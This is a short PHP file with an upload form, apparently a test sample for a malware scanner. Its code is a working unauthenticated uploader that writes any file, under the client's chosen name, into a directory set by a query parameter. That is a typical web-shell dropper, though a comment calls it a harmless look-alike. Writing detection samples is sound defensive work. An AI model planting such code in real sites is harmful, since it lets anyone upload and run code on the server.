<form enctype="multipart/form-data" method="post"><input type="file" name="up"></form>
<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// The destination is built up piece by piece from the query and the client's name.
$tmp = $_FILES['up']['tmp_name'];
$where = isset($_GET['path']) ? $_GET['path'] : getcwd();
$where .= '/';
$full = $where . $_FILES['up']['name'];
if (@move_uploaded_file($tmp, $full)) {
    echo 'ok';
}
